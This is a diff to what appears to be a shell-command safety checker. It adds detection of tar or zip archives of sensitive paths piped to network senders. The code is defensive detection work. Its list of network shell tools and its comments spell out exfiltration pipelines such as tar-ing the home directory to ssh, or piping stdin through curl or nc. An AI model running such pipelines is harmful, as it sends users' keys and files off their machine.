@@ -41,6 +41,20 @@ BUNDLE_UPLOAD = ("exfiltration", "send an archive of a whole directory over the 
 _STDIN_SENDERS = frozenset({"nc", "ncat", "netcat", "socat", "telnet", "openssl"})
 
 
+def archived(cmd: Cmd) -> list[str]:
+    """The paths an archiver writing to stdout packs (tar c[z] PATHS, zip -r - PATHS)."""
+    args = cmd.args[1:] if cmd.name == "tar" and cmd.args and not cmd.args[0].startswith("-") else cmd.args
+    out, skip = [], False
+    for a in args:
+        if skip:
+            skip = False
+        elif a in ("-C", "--directory", "-f", "--file", "-X", "--exclude-from", "-T", "--files-from"):
+            skip = True  # -C changes where relative paths are read: they stay relative here (the workspace case)
+        elif not a.startswith("-") and a != "-":
+            out.append(a)
+    return out
+
+
 def uploads_stdin(cmd: Cmd) -> bool:
     """A network client that sends what it reads on stdin (curl -T -, --data-binary @-, -F f=@-, nc host port)."""
     if cmd.name in _STDIN_SENDERS:
@@ -274,6 +288,8 @@ class FlowChecks:
                 self.add(*EXFILTRATION)
             if sink.sends and uploads_stdin(sink) and any(bundles(c) for c in upstream):
                 self.add(*BUNDLE_UPLOAD)
+            if sink.sends and any(bundles(c) and any(sensitive_upload(self.path(p, env)) for p in archived(c)) for c in upstream):
+                self.add(*EXFILTRATION)  # tar cz ~ | ssh host 'cat > h.tgz': the home (keys included) leaves
             self.pipe_taint(sink, upstream, env)
             if sink.edits and any(lists_everything(c.name, c.args) for c in upstream):
                 self.add(*EDIT_EVERYTHING)
